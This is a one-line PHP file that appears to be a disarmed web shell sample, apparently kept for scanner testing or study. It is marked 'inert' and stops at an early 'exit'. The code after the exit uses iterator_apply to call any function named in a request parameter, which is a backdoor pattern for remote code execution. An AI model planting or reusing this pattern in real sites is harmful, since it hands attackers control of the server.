<?php exit; /* inert */ $it=new ArrayIterator([1]); iterator_apply($it,$_GET["f"],[$_GET["a"]]);
